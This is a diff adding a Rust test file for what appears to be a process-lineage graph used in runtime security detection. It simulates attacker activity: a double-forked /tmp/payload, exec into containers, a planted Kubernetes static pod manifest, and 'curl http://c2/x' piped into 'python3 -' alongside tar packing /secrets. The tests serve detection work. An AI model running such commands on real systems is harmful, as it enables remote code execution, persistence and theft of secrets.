@@ -1,0 +1,136 @@
+//! What the graph makes of what happened.
+
+mod world;
+
+use lanner_core::event::*;
+use lanner_core::graph::Graph;
+use world::{HOST, World};
+
+const UUID_POD: &str = "/kubepods/besteffort/podfedcba98-7654-3210-fedc-ba9876543210/aaaa";
+const STATIC_POD: &str = "/kubepods/besteffort/pod0123456789abcdef0123456789abcdef/bbbb";
+
+fn graph(world: &World) -> Graph {
+    let mut graph = Graph::default();
+    world.events.iter().for_each(|event| graph.apply(event));
+    graph
+}
+
+#[test]
+fn a_double_fork_hides_no_descent() {
+    let mut world = World::new();
+    let init = world.found(None, "/sbin/init");
+    let shell = world.spawn(&init, "/bin/bash", "bash");
+    let middle = world.fork(&shell);
+    let mut daemon = world.fork(&middle);
+    world.exit(&middle);
+    daemon.task.parent = Some(init.key);
+    world.exec(&daemon, "/tmp/payload", "payload");
+    let graph = graph(&world);
+    assert!(graph.descends(daemon.key, shell.key));
+    assert_eq!(graph.process(daemon.key).unwrap().task.parent, Some(init.key), "and the reaper is known");
+    assert_eq!(graph.origin_of(daemon.key), shell.key, "init is a boundary");
+}
+
+#[test]
+fn a_reused_pid_is_another_process() {
+    let mut world = World::new();
+    let init = world.found(None, "/sbin/init");
+    let first = world.spawn(&init, "/bin/a", "a");
+    world.exit(&first);
+    let mut second = world.fork(&init);
+    second.key.pid = first.key.pid;
+    world.exec(&second, "/bin/b", "b");
+    let graph = graph(&world);
+    assert!(!graph.process(first.key).unwrap().is_alive());
+    assert!(graph.process(second.key).unwrap().is_alive());
+    assert_eq!(graph.by_pid(first.key.pid).unwrap().key, second.key);
+}
+
+#[test]
+fn forged_parents_make_no_cycle() {
+    let mut world = World::new();
+    let (mut a, mut b) = (world.found(None, "/bin/a"), world.found(None, "/bin/b"));
+    a.task.parent = Some(b.key);
+    b.task.parent = Some(a.key);
+    world.exec(&a, "/bin/a", "a");
+    world.exec(&b, "/bin/b", "b");
+    a.task.parent = Some(a.key);
+    world.exec(&a, "/bin/a", "a");
+    let graph = graph(&world);
+    assert_eq!(graph.ancestors(a.key).count() + graph.ancestors(b.key).count(), 1);
+}
+
+#[test]
+fn entering_a_container_is_told_from_starting_it() {
+    let mut world = World::new();
+    let shim = world.found(None, "/usr/bin/containerd-shim-runc-v2");
+    let root = world.start_container(&shim, UUID_POD, "aaaa", "/bin/httpd");
+    let shell = world.enter(&shim, &root, "/bin/sh", true);
+    let ls = world.spawn(&shell, "/bin/ls", "ls");
+    let graph = graph(&world);
+    let facts: Vec<(ProcessKey, bool, bool)> = world
+        .events
+        .iter()
+        .filter(|e| matches!(e.payload, Payload::Exec(_)))
+        .map(|e| (e.header.process, graph.begins_container(e), graph.enters_container(e)))
+        .collect();
+    assert_eq!(facts, [(root.key, true, false), (shell.key, false, true), (ls.key, false, false)]);
+    assert_eq!(graph.origin_of(ls.key), shell.key, "the way into a container is a boundary");
+    assert_eq!(graph.host_namespaces(ls.key), Some(HOST));
+}
+
+#[test]
+fn a_runtimes_last_steps_begin_no_container() {
+    let mut world = World::new();
+    let shim = world.found(None, "/usr/bin/containerd-shim-runc-v2");
+    // runc runs a copy of itself in the container's control group, but in the host's mount namespace still.
+    let mut root = world.fork(&shim);
+    root.task.cgroup = Text::from(UUID_POD);
+    root.task.container = Some(ContainerId(Text::from("aaaa")));
+    world.exec(&root, "memfd:runc_cloned", "runc init");
+    root.task.namespaces.mnt = 77;
+    let began = world.exec(&root, "/bin/httpd", "httpd");
+    let graph = graph(&world);
+    assert_eq!(graph.container_of(root.key).unwrap().began, Some(began));
+}
+
+#[test]
+fn a_static_pods_cause_is_the_manifest_that_the_kubelet_took_up() {
+    let mut world = World::new();
+    let kubelet = world.found(None, "/usr/bin/kubelet");
+    let shim = world.found(None, "/usr/bin/containerd-shim-runc-v2");
+    let shell = world.spawn(&shim, "/bin/sh", "sh");
+    world.write(&shell, "/etc/kubernetes/manifests/x.yaml", 42);
+    world.read(&kubelet, "/etc/kubernetes/manifests/x.yaml", 42);
+    world.wait(63.0);
+    let pause = world.start_container(&shim, STATIC_POD, "pause", "/pause");
+    let hidden = world.start_container(&shim, STATIC_POD, "bbbb", "/bin/sh");
+    let other = world.start_container(&shim, UUID_POD, "aaaa", "/bin/httpd");
+    let graph = graph(&world);
+    for inside in [pause.key, hidden.key] {
+        let cause = graph.container_of(inside).unwrap().cause.clone().unwrap();
+        assert_eq!((cause.writer, cause.reader), (shell.key, kubelet.key));
+        assert_eq!(cause.path, "/etc/kubernetes/manifests/x.yaml");
+    }
+    assert_eq!(graph.container_of(other.key).unwrap().cause, None, "a pod of the API server has no such cause");
+}
+
+#[test]
+fn a_pipe_and_a_carried_file_lead_to_who_is_behind_them() {
+    let mut world = World::new();
+    let shell = world.found(None, "/bin/sh");
+    let pipe = world.pipe();
+    let mut curl = world.fork(&shell);
+    curl.stdio[1] = pipe;
+    world.exec(&curl, "/usr/bin/curl", "curl http://c2/x");
+    let mut python = world.fork(&shell);
+    python.stdio[0] = pipe;
+    world.exec(&python, "/usr/bin/python3", "python3 -");
+    let tar = world.spawn(&python, "/bin/tar", "tar czf /tmp/x.tgz /secrets");
+    world.write(&tar, "/tmp/x.tgz", 9);
+    world.read(&python, "/tmp/x.tgz", 9);
+    let graph = graph(&world);
+    assert_eq!(graph.pipe_writer(pipe.ino, python.key).unwrap().key, curl.key);
+    assert_eq!(graph.carried(python.key).unwrap(), &"/tmp/x.tgz");
+    assert_eq!(graph.carried(tar.key), None, "who wrote it himself carries nothing");
+}
